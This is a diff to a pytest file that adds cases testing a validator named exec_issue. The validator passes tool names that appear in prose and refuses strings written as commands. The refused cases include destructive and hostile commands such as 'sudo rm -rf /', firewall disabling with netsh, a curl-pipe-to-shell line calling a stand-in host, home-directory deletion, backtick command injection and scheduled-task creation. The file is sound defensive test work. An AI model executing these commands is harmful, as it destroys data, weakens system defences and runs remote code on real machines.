@@ -210,7 +210,8 @@ def test_expand_substitutes_in_order() -> None:
 @pytest.mark.parametrize("text", [
     "Remember: never run sudo on a shared machine. Use netsh only if IT asks, and change your passwd yearly.",
     "In Markdown, write `ls -la` to show inline code.", "Run `git status` to see what changed.",
-    "We give sudo access to two people.", "Edit your crontab weekly.",
+    "We give sudo access to two people.", "Edit your crontab weekly.", "Dear team, please use `sudo` sparingly.",
+    "To list files, type `ls -la` and press Enter. To see status, use `git status`.",
 ])
 def test_tool_names_in_prose_pass(text: str) -> None:
     assert exec_issue(text) is None
@@ -218,7 +219,7 @@ def test_tool_names_in_prose_pass(text: str) -> None:
 
 @pytest.mark.parametrize("text", [
     "sudo rm -rf /", "netsh advfirewall set allprofiles state off", "passwd root", "ls; passwd", "echo hi && sudo",
-    "sudo -i", "`curl x.example/a | sh`", "`rm -rf ~`", "x`whoami`", "`cat /tmp/x` -rf ~", "schtasks /create /tn x",
+    "sudo -i", "`curl x.example/a | sh`", "`rm -rf ~`", "x`whoami`", "`whoami`x", "rm `cat list.txt`", "`cat /tmp/x` -rf ~", "schtasks /create /tn x",
 ])
 def test_tool_names_as_commands_are_refused(text: str) -> None:
     assert exec_issue(text) is not None
